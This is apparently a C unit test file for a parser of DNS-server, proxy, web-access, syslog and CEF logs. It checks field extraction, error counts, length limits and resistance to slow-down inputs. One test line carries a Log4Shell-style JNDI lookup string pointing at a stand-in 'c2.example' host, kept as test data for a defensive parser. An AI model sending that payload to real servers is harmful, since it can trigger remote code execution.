/* SPDX-License-Identifier: MPL-2.0 */
/* Lines of text formats: what each form says, what is refused, and limits on both sides. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdlib.h>

#include <cmocka.h>

#include "lines.h"
#include "logs_testing.h"

/* ---- single lines ---------------------------------------------------------------------------- */

/* clang-format 14 fails on this table. */
/* clang-format off */
static const struct {
	const char *why;
	enum logs_format format;
	const char *line;
	const char *fields; /* of matched roles */
	uint64_t problems;
} cases[] = {
	{"BIND 9.20's responses", LOGS_BIND,
		"2026-11-23T06:18:00.104Z client @0x7f 192.0.2.1#5 (a.example): response: a.example IN A NXDOMAIN +E(0)K",
		" client:source.address:address=192.0.2.1 query:dns.query:name=a.example", 0},
	{"a name with a slash in what failed", LOGS_BIND,
		"23-Nov-2026 06:18:00.1 client 192.0.2.1#5 (a/b.example): query failed (REFUSED) for a/b.example/CH/TXT at query.c:1",
		" client:source.address:address=192.0.2.1 query:dns.query:name=a/b.example", 0},
	{"a name with a bracket", LOGS_BIND,
		"23-Nov-2026 06:18:00.1 client @0x7f 192.0.2.1#5 (a\\): b.example): query: a\\):b.example IN A +",
		" client:source.address:address=192.0.2.1 message:message:free=b.example):\\x20query:\\x20a\\):b.example\\x20IN\\x20A\\x20+", 0},
	{"what a client did else", LOGS_BIND,
		"23-Nov-2026 06:18:00.1 client @0x7f 192.0.2.1#5 (a.example): zone transfer 'a.example/AXFR/IN' denied",
		" client:source.address:address=192.0.2.1 message:message:free=zone\\x20transfer\\x20'a.example/AXFR/IN'\\x20denied", 0},
	{"no time, no client", LOGS_BIND, "nothing of a name server at a.example",
		" message:message:free=nothing\\x20of\\x20a\\x20name\\x20server\\x20at\\x20a.example", 1},
	{"a query that breaks off", LOGS_BIND, "client 192.0.2.1#5: query: a.example IN",
		" client:source.address:address=192.0.2.1 message:message:free=client\\x20192.0.2.1#5:\\x20query:\\x20a.example\\x20IN", 1},
	{"a zone of a link-local address", LOGS_BIND, "client fe80::1%eth0#5: query: a.example IN A + (fe80::2%eth0)",
		" client:source.address:address=fe80::1 query:dns.query:name=a.example server:destination.address:address=fe80::2", 0},

	{"another type of a name server's log", LOGS_UNBOUND, "[1795414680] unbound[1:0] info: rpz: applied [x] *.bad.example. nxdomain 192.0.2.1@4 a.bad.example. A IN",
		" process:process:none=unbound message:message:free=rpz:\\x20applied\\x20[x]\\x20*.bad.example.\\x20nxdomain\\x20192.0.2.1@4\\x20a.bad.example.\\x20A\\x20IN", 0},
	{"not from unbound", LOGS_UNBOUND, "192.0.2.1 a.example. A IN",
		" message:message:free=192.0.2.1\\x20a.example.\\x20A\\x20IN", 1},
	{"unbound through syslog", LOGS_UNBOUND, "<30>Nov 23 06:18:00 ns unbound[77]: [77:1] info: 192.0.2.1 a.example. A IN",
		" process:process:none=unbound client:source.address:address=192.0.2.1 query:dns.query:name=a.example.", 0},
	{"a class that is none", LOGS_UNBOUND, "[1795414680] unbound[1:0] info: 192.0.2.1 a.example. A XX",
		" process:process:none=unbound message:message:free=192.0.2.1\\x20a.example.\\x20A\\x20XX", 0},

	{"a name with blanks", LOGS_DNSMASQ, "Nov 23 06:18:00 dnsmasq[1]: query[A] we ird from here.example from 192.0.2.1",
		" process:process:none=dnsmasq query:dns.query:name=we\\x20ird\\x20from\\x20here.example client:source.address:address=192.0.2.1", 0},
	{"a blocking list", LOGS_DNSMASQ, "Nov 23 06:18:00 dnsmasq[1]: gravity blocked ads.example is 0.0.0.0",
		" process:process:none=dnsmasq query:dns.query:name=ads.example answer:dns.answer:host=0.0.0.0", 0},
	{"a hosts file", LOGS_DNSMASQ, "Nov 23 06:18:00 dnsmasq[1]: /etc/hosts nas.example is 2001:db8::9",
		" process:process:none=dnsmasq query:dns.query:name=nas.example answer:dns.answer:host=2001:db8::9", 0},
	{"a question to another server", LOGS_DNSMASQ, "Nov 23 06:18:00 dnsmasq[1]: dnssec-query[DS] example to 198.51.100.53#5353",
		" process:process:none=dnsmasq query:dns.query:name=example server:destination.address:address=198.51.100.53", 0},
	{"nothing of dnsmasq", LOGS_DNSMASQ, "query[A] a.example from 192.0.2.1",
		" message:message:free=query[A]\\x20a.example\\x20from\\x20192.0.2.1", 1},
	{"another daemon in the same file", LOGS_DNSMASQ, "Nov 23 06:18:00 ns named[4]: client 192.0.2.1#5: query: a.example IN A +",
		" process:process:none=named client:source.address:address=192.0.2.1 query:dns.query:name=a.example", 0},

	{"a question that is not closed", LOGS_POWERDNS, "Nov 23 06:18:00 1 [1/1] question for 'a.example from 192.0.2.1:5",
		" message:message:free=1\\x20[1/1]\\x20question\\x20for\\x20'a.example\\x20from\\x20192.0.2.1:5", 0},
	{"pdns through syslog", LOGS_POWERDNS, "Nov 23 06:18:00 ns pdns_recursor[9]: 3 [1/1] question for 'a.example|A' from 192.0.2.1:5",
		" process:process:none=pdns_recursor query:dns.query:name=a.example client:source.address:address=192.0.2.1", 0},
	{"no time", LOGS_POWERDNS, "wanting", " message:message:free=wanting", 1},

	{"squid with headers", LOGS_SQUID, "1795414680.070 1 192.0.2.1 TCP_MISS/200 5 GET http://a.example/ - HIER_DIRECT/b.example text/html [Host: c.example\\r\\n] [X: y\\r\\n]",
		" message:message:free=[Host:\\x20c.example\\r\\n]\\x20[X:\\x20y\\r\\n] client:source.address:address=192.0.2.1 url:url:url=http://a.example/ server:host:host=b.example", 0},
	{"squid with a blank in the URL", LOGS_SQUID, "1795414680.070 1 192.0.2.1 TCP_MISS/200 5 GET http://a.example/x y - HIER_NONE/- -",
		" client:source.address:address=192.0.2.1 url:url:url=http://a.example/x\\x20y", 0},
	{"squid that looks up names", LOGS_SQUID, "1795414680.070 -1 pc.example TCP_MISS/200 5 GET http://a.example/ - HIER_NONE/- -",
		" client:source.address:host=pc.example url:url:url=http://a.example/", 0},
	{"squid cut off", LOGS_SQUID, "1795414680.070 1 192.0.2.1 TCP_MISS/200 5 GET http://a.example/",
		" message:message:free=1795414680.070\\x201\\x20192.0.2.1\\x20TCP_MISS/200\\x205\\x20GET\\x20http://a.example/", 1},

	{"quotes that squid does not escape", LOGS_COMBINED, "192.0.2.1 - - [23/Nov/2026:06:18:00 +0000] \"GET http://a.example/ HTTP/1.1\" 200 5 \"-\" \"a\"b\\c\" TCP_MISS:HIER_DIRECT",
		" client:source.address:address=192.0.2.1 url:url:url=http://a.example/ user_agent:user_agent:text=a\"b\\c", 0},
	{"a host with its port stays so", LOGS_COMBINED, "a.example:8080 192.0.2.1 - - [23/Nov/2026:06:18:00 +0000] \"GET /x HTTP/1.1\" 200 5",
		" host:host:host=a.example client:source.address:address=192.0.2.1 url:url:url=a.example:8080/x", 0},
	{"something to fetch in a user agent", LOGS_COMBINED, "192.0.2.1 - - [23/Nov/2026:06:18:00 +0000] \"GET / HTTP/1.1\" 200 5 \"-\" \"${jndi:ldap://c2.example/a}\"",
		" client:source.address:address=192.0.2.1 path:url:none=/ user_agent:user_agent:text=${jndi:ldap://c2.example/a} message:message:free=${jndi:ldap://c2.example/a}", 0},
	{"forwarded for with ports", LOGS_COMBINED, "192.0.2.1 - - [23/Nov/2026:06:18:00 +0000] \"GET / HTTP/1.1\" 200 5 \"-\" \"-\" \"198.51.100.1, [2001:db8::1]:4, unknown\"",
		" client:source.address:address=192.0.2.1 path:url:none=/ forwarded_for:address:address=198.51.100.1 forwarded_for:address:address=2001:db8::1 message:message:free=unknown", 0},
	{"a request whose quote is not closed", LOGS_COMBINED, "192.0.2.1 - - [23/Nov/2026:06:18:00 +0000] \"GET /c2.example",
		" message:message:free=192.0.2.1\\x20-\\x20-\\x20[23/Nov/2026:06:18:00\\x20+0000]\\x20\"GET\\x20/c2.example", 1},
	{"a user agent whose quote is not closed", LOGS_COMBINED, "192.0.2.1 - - [23/Nov/2026:06:18:00 +0000] \"GET / HTTP/1.1\" 200 5 \"-\" \"c2.example",
		" client:source.address:address=192.0.2.1 path:url:none=/ message:message:free=\"c2.example", 0},
	{"no access log", LOGS_COMBINED, "[error] at c2.example", " message:message:free=[error]\\x20at\\x20c2.example", 1},

	{"structured data that is not closed", LOGS_SYSLOG, "<1>1 2026-11-23T06:18:00Z h a p m [x y=\"c2.example",
		" message:message:free=1\\x202026-11-23T06:18:00Z\\x20h\\x20a\\x20p\\x20m\\x20[x\\x20y=\"c2.example", 0},
	{"a byte order mark before the message", LOGS_SYSLOG, "<1>1 2026-11-23T06:18:00Z h a p m - \xef\xbb\xbfto c2.example",
		" process:process:none=a message:message:free=to\\x20c2.example", 0},
	{"no tag", LOGS_SYSLOG, "Nov 23 06:18:00 gw.example last message repeated 2 times",
		" message:message:free=last\\x20message\\x20repeated\\x202\\x20times", 0},
	{"a number in brackets that is no priority", LOGS_SYSLOG, "<1234>c2.example", " message:message:free=<1234>c2.example", 1},
	{"only a priority", LOGS_SYSLOG, "<13>to c2.example", " message:message:free=to\\x20c2.example", 0},
	{"no syslog", LOGS_SYSLOG, "to c2.example", " message:message:free=to\\x20c2.example", 1},
	{"CEF without its seven bars", LOGS_SYSLOG, "CEF:0|a|b|c|d|e", " message:message:free=CEF:0|a|b|c|d|e", 1},
	{"CEF without keys", LOGS_SYSLOG, "CEF:0|a|b|c|d|e|1|to c2.example", " message:message:free=e message:message:free=to\\x20c2.example", 0},
	{"equals signs in CEF's values", LOGS_SYSLOG, "CEF:0|a|b|c|d|e|1|request=http://a.example/?x=1&y\\=2 src=192.0.2.1 msg=a = b",
		" message:message:free=e url:url:url=http://a.example/?x=1&y=2 client:source.address:address=192.0.2.1 message:message:free=a\\x20=\\x20b", 0},
	{"a name where CEF wants an address", LOGS_SYSLOG, "CEF:0|a|b|c|d|e|1|src=pc.example dst=c2.example",
		" message:message:free=e client:source.address:host=pc.example host:host:host=c2.example", 0},

	{"text", LOGS_TEXT, "\tto c2.example", " message:message:free=\\x09to\\x20c2.example", 0},
};
/* clang-format on */

static struct buf look(enum logs_format format, struct slice log, struct logs_counts *counts)
{
	struct logs_look l = {.format = format};

	return logs_look_at(&l, log, counts);
}

static void single_lines(void **state)
{
	(void)state;
	for (size_t i = 0; i < COUNT_OF(cases); i++) {
		struct buf expected = BUF_INIT, found;
		struct logs_counts counts;

		buf_printf(&expected, "1@0%s\n", cases[i].fields);
		buf_char(&expected, 0);
		found = look(cases[i].format, slice_of(cases[i].line), &counts);
		if (strcmp(found.data, expected.data) != 0 || counts.problems != cases[i].problems)
			fail_msg("%s: %llu problems\n%s", cases[i].why,
				(unsigned long long)counts.problems, found.data);
		buf_fini(&expected);
		buf_fini(&found);
	}
}

/* A problem is told with its line; blank lines are none, and no records. */
static void problems_told(void **state)
{
	struct logs_counts counts;
	struct buf found;

	(void)state;
	found = look(LOGS_SQUID, SLICE("\n \t\r\nnot \x1b[31msquid\nnor this\n"), &counts);
	assert_int_equal(counts.lines, 4);
	assert_int_equal(counts.records, 2);
	assert_int_equal(counts.problems, 2);
	assert_string_equal(
		counts.first_problem, "line 3: not a line of squid: \"not ?[31msquid\"");
	buf_fini(&found);
}

/* ---- limits ---------------------------------------------------------------------------------- */

static void fill(struct buf *b, char c, size_t len)
{
	memset(buf_reserve(b, len), c, len);
	b->len += len;
}

/* The longest line is read, a longer one is skipped and counted, and what follows is read. */
static void long_lines(void **state)
{
	(void)state;
	for (size_t len = LOGS_LINE_MAX; len <= LOGS_LINE_MAX + 1; len++) {
		for (size_t chunk = 0; chunk <= KIB(300); chunk += KIB(300)) {
			struct logs_look l = {.format = LOGS_TEXT, .chunk = chunk};
			struct buf text = BUF_INIT, found;
			struct logs_counts counts;

			buf_text(&text, "a\n");
			fill(&text, 'x', len);
			buf_text(&text, "\nb.example");
			found = logs_look_at(&l, buf_slice(&text), &counts);
			assert_int_equal(counts.too_long, len > LOGS_LINE_MAX);
			assert_int_equal(counts.records, len > LOGS_LINE_MAX ? 2 : 3);
			assert_int_equal(counts.lines, 3);
			assert_non_null(strstr(found.data, "message:message:free=b.example\n"));
			assert_non_null(strstr(found.data, "\n3@"));
			buf_fini(&text);
			buf_fini(&found);
		}
	}
}

/* Free text longer than a field comes in pieces that cut no word. */
static void long_text(void **state)
{
	struct buf text = BUF_INIT, found;
	struct logs_counts counts;
	char *at;

	(void)state;
	while (text.len < 3 * FIELD_BYTES_MAX)
		buf_text(&text, "c2.example ");
	found = look(LOGS_TEXT, buf_slice(&text), &counts);
	assert_int_equal(counts.cut_fields, 0);
	assert_int_equal(counts.records, 1);
	for (at = found.data; (at = strstr(at, "=")) != NULL; at++)
		assert_memory_equal(at, "=c2.example\\x20", 15);
	buf_fini(&found);
	/* without any blank the pieces are full */
	buf_clear(&text);
	fill(&text, 'x', 2 * FIELD_BYTES_MAX);
	found = look(LOGS_TEXT, buf_slice(&text), &counts);
	assert_int_equal(strlen(found.data),
		2 * FIELD_BYTES_MAX + strlen("1@0  \n") + 2 * strlen("message:message:free="));
	buf_fini(&found);
	buf_fini(&text);
}

/* More fields than a batch holds, of one record, escaped ones among them. */
static void many_fields(void **state)
{
	struct buf text = BUF_INIT, found;
	struct logs_counts counts;
	size_t seen = 0;

	(void)state;
	buf_text(&text, "CEF:0|a|b|c|d|e|1|");
	for (int i = 0; i < 3 * BATCH_FIELDS; i++)
		buf_printf(&text, "k%d=n%d\\=.example ", i, i);
	found = look(LOGS_SYSLOG, buf_slice(&text), &counts);
	for (char *at = found.data; (at = strstr(at, ".example")) != NULL; at++) {
		char name[32];
		int len = snprintf(name, sizeof(name), "=n%zu=.example", seen);

		assert_memory_equal(at + 8 - len, name, (size_t)len);
		seen++;
	}
	assert_int_equal(seen, 3 * BATCH_FIELDS);
	assert_int_equal(counts.records, 1);
	buf_fini(&found);
	buf_fini(&text);
}

/* Lines that make a careless parser walk again and again: many times longer, as many times slower
 * and no more. They are read within the test's time; quadratic ones would take minutes. */
static void hostile_lines(void **state)
{
	/* clang-format 14 fails on this table. */
	/* clang-format off */
	static const struct {
		enum logs_format format;
		const char *front, *piece;
	} hostile[] = {
		{LOGS_COMBINED, "192.0.2.1 - - [23/Nov/2026:06:18:00 +0000] \"GET ", "\\\\\\\""},
		{LOGS_COMBINED, "", "[1/"},
		{LOGS_COMBINED, "192.0.2.1 - - [23/Nov/2026:06:18:00 +0000] \"", "\\"},
		{LOGS_SYSLOG, "<1>1 - h a p m ", "[a b=\"\\\"\"]"},
		{LOGS_SYSLOG, "CEF:0|a|b|c|d|e|1|", "a= "},
		{LOGS_SYSLOG, "CEF:0|", "\\|"},
		{LOGS_SYSLOG, "", "<1>"},
		{LOGS_DNSMASQ, "Nov 23 06:18:00 dnsmasq[1]: query[A] ", " from"},
		{LOGS_DNSMASQ, "Nov 23 06:18:00 dnsmasq[1]: ", "is "},
		{LOGS_UNBOUND, "[1795414680] unbound[1:0] info: ", " <>:"},
		{LOGS_BIND, "client ", " (a"},
		{LOGS_BIND, "client a#1: query failed (X) for ", "/"},
		{LOGS_POWERDNS, "Nov 23 06:18:00 msg=\"", "\\\""},
		{LOGS_POWERDNS, "Nov 23 06:18:00 question for '", "|'"},
		{LOGS_SQUID, "1795414680.070 1 a b/1 5 GET ", " [ ]"},
		{LOGS_TEXT, "", "a. "},
		{LOGS_CSV, "a,b\n", "\"\n"},
		{LOGS_CSV, "a,b\n\"", "\"x\n"},
		{LOGS_W3C, "#Fields: c-ip cs-uri\n", "\"a"},
		{LOGS_NFDUMP, "", "1|"},
		{LOGS_NFDUMP, "sIP|dIP|bytes|\n", "|"},
		{LOGS_STIX, "", "{\"a\":["},
		{LOGS_STIX, "", "{]\n"},
		{LOGS_STIX, "{\n", "{\"type\":,\n"},
	};
	/* clang-format on */

	(void)state;
	for (size_t i = 0; i < COUNT_OF(hostile); i++) {
		struct buf text = BUF_INIT, found;
		struct logs_counts counts;

		buf_text(&text, hostile[i].front);
		while (text.len < LOGS_LINE_MAX - 16)
			buf_text(&text, hostile[i].piece);
		found = look(hostile[i].format, buf_slice(&text), &counts);
		buf_fini(&found);
		(void)logs_guess(buf_slice(&text), NULL);
		buf_fini(&text);
	}
}

/* ---- small scanning -------------------------------------------------------------------------- */

static void forms_of_addresses(void **state)
{
	static const char *const good[] = {"192.0.2.1", "::", "::1", "2001:db8::1",
		"1:2:3:4:5:6:7:8", "1:2:3:4:5:6:192.0.2.1", "::ffff:192.0.2.1", "fe80::1%eth0"};
	static const char *const bad[] = {"", "1", "1.2.3", "1.2.3.4.5", "a.b.c.d", "06:18:00",
		"06:18:00.123", "02:00:5e:10:00:44", "192.0.2.1:53", "a.example", "::g",
		"1:2:3:4:5:6:7", "1:2:3:4:5:6:7:8:9::", "192.0.2.1/24"};

	(void)state;
	for (size_t i = 0; i < COUNT_OF(good); i++)
		if (!is_address(slice_of(good[i])))
			fail_msg("%s", good[i]);
	for (size_t i = 0; i < COUNT_OF(bad); i++)
		if (is_address(slice_of(bad[i])))
			fail_msg("%s", bad[i]);
	assert_true(is_mac(SLICE("02:00:5e:10:00:44")));
	assert_true(is_mac(SLICE("02-00-5E-10-00-44")));
	assert_false(is_mac(SLICE("02:00:5e:10:00:4")));
	assert_false(is_mac(SLICE("02:00:5e:10:00:4g")));
}

static void unescaping(void **state)
{
	/* clang-format 14 fails on this table. */
	/* clang-format off */
	static const struct {
		enum line_escape escape;
		const char *text, *plain;
	} escapes[] = {
		{ESCAPE_NONE,    "a\\\"b",            "a\\\"b"      },
		{ESCAPE_WEB,     "a\\\"b\\\\\\x41\\x",  "a\"b\\A\\x"  },
		{ESCAPE_WEB,     "\\t\\n\\q\\x4",       "\t\n\\q\\x4" },
		{ESCAPE_QUOTE,   "\\\"\\\\\\]\\n",       "\"\\]\\n"    },
		{ESCAPE_CEF,     "a\\=b\\|c\\\\d\\ne",   "a=b|c\\d\ne" },
		{ESCAPE_HAPROXY, "#22a#2#zz#",         "\"a#2#zz#"   },
		{ESCAPE_DOUBLED, "a\"\"b\"c",           "a\"b\"c"     },
		{ESCAPE_PLUS,    "a+b",               "a b"         },
		{ESCAPE_WEB,     "\\",                "\\"          },
	};
	/* clang-format on */
	char to[64];

	(void)state;
	for (size_t i = 0; i < COUNT_OF(escapes); i++) {
		size_t len = line_unescape(slice_of(escapes[i].text), escapes[i].escape, to);

		to[len] = 0;
		assert_string_equal(to, escapes[i].plain);
	}
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(single_lines),
		cmocka_unit_test(problems_told),
		cmocka_unit_test(long_lines),
		cmocka_unit_test(long_text),
		cmocka_unit_test(many_fields),
		cmocka_unit_test(hostile_lines),
		cmocka_unit_test(forms_of_addresses),
		cmocka_unit_test(unescaping),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
